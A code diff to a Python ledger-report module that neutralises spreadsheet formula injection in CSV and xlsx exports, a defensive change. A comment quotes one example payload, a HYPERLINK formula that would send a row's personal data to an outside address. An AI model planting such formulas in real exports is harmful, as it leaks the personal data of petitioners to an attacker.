@@ -201,6 +201,36 @@ def screen_rows(raw_rows: Iterable[Sequence[Any]]) -> list[dict[str, Any]]:
     return out
 
 
+# Formula injection (OWASP "CSV injection"): Excel and LibreOffice read a cell whose text starts
+# with one of these as a formula, so a petitioner's name or request such as
+# =HYPERLINK("http://…/?d="&A2,"点击") would run in the office of whoever opens the ledger and
+# send the row's personal data away. Tab and CR are on the list because some importers skip
+# them and then see the "=". Text starting so is written as text: a text cell with Excel's quote
+# prefix in xlsx (the text itself kept as typed), a leading apostrophe in CSV (which has no
+# cell types).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_formula_like(value: Any) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)
+
+
+def csv_safe(value: Any) -> Any:
+    """The value for a CSV cell: formula-like text with a leading apostrophe, the rest as is."""
+    return "'" + value if is_formula_like(value) else value
+
+
+class SafeCsvWriter:
+    """``csv.writer`` that neutralises formula-like text in every cell (every CSV the reports
+    write goes through it: ledgers and the league table)."""
+
+    def __init__(self, handle: Any) -> None:
+        self.writer = csv.writer(handle)
+
+    def writerow(self, row: Iterable[Any]) -> None:
+        self.writer.writerow([csv_safe(v) for v in row])
+
+
 def headers(codes: Sequence[str]) -> list[str]:
     return [str(COLUMNS_BY_CODE[c].label) for c in codes]
 
@@ -244,14 +274,25 @@ class XlsxWriter(LedgerWriter):
         self.WriteOnlyCell = WriteOnlyCell
 
     def write(self, values: list[Any]) -> None:
-        if self.date_columns:
-            values = list(values)
-            for i in self.date_columns:
-                if values[i] is not None:
-                    cell = self.WriteOnlyCell(self.sheet, value=values[i])
-                    cell.number_format = "yyyy-mm-dd hh:mm"
-                    values[i] = cell
+        values = list(values)
+        for i in self.date_columns:
+            if values[i] is not None:
+                cell = self.WriteOnlyCell(self.sheet, value=values[i])
+                cell.number_format = "yyyy-mm-dd hh:mm"
+                values[i] = cell
+        for i, value in enumerate(values):
+            if is_formula_like(value):
+                values[i] = self.text_cell(value)
         self.sheet.append(values)
+
+    def text_cell(self, value: str) -> Any:
+        # openpyxl makes any string starting with "=" a formula cell; a string cell ("s",
+        # written as an inline string) never is, and the quote prefix keeps Excel from turning
+        # it into one when the cell is edited.
+        cell = self.WriteOnlyCell(self.sheet, value=value)
+        cell.data_type = "s"
+        cell.quotePrefix = True
+        return cell
 
     def close(self) -> None:
         self.workbook.save(str(self.path))
@@ -262,7 +303,7 @@ class CsvWriter(LedgerWriter):
 
     def __init__(self, path: Path, codes: Sequence[str]) -> None:
         self.handle: IO[str] = path.open("w", encoding="utf-8-sig", newline="")
-        self.writer = csv.writer(self.handle)
+        self.writer = SafeCsvWriter(self.handle)
         self.writer.writerow(headers(codes))
 
     def write(self, values: list[Any]) -> None:
